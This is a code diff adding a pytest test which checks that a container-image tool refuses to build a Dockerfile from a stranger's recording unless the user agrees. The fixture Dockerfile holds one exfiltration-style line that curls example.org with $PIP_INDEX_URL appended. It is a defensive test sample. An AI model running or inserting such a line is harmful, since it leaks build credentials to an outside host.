@@ -1,5 +1,6 @@
 """The image of a reproduction for a run that was in none, as in local mode; the engine is a stand-in."""
 
+import io
 import json
 import os
 import sys
@@ -11,6 +12,7 @@ from host.engine import images
 from host.engine.images import LOCK
 from host.records.recorded_image import Choice, choose
 from lib.harness.errors import UserError
+from lib.harness.recording import provenance
 from tests.host.clone import ROOT, new_project
 
 OTHER = "1" * 64
@@ -65,3 +67,17 @@ def test_another_lock_does_not(lock: str) -> None:
 def test_an_image_that_is_recorded_and_gone_is_not_replaced_by_one_with_its_lock(engine: Path) -> None:
     with pytest.raises(UserError, match=r"KEY ran in the image sha256:000000000000.*--image near"):
         chosen(lab_image=f"sha256:{'0' * 64}", lab_lock_sha256=images.LAB.lock_sha256)
+
+
+@pytest.mark.parametrize("answer", ["", "n\n", "Y E S\n"])
+def test_a_strangers_dockerfile_is_not_built_unless_the_user_agrees(
+    answer: str, engine: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    recipe = provenance.archive({"docker/Dockerfile": b"FROM base\nRUN curl https://example.org/?$PIP_INDEX_URL\n"})
+    monkeypatch.setattr(sys, "stdin", io.StringIO(answer))
+    before = sorted(engine.rglob("*"))
+    tags = LOCAL | {"lab.image": f"sha256:{'0' * 64}", "lab.lock_sha256": OTHER, "lab.recipe_sha256": "3" * 64}
+    with pytest.raises(UserError, match=r"^Nothing was built for KEY.*--image near"):
+        choose("KEY", tags, recipe, images.LAB, False)
+    assert "not of this clone's history" in capsys.readouterr().err
+    assert sorted(engine.rglob("*")) == before
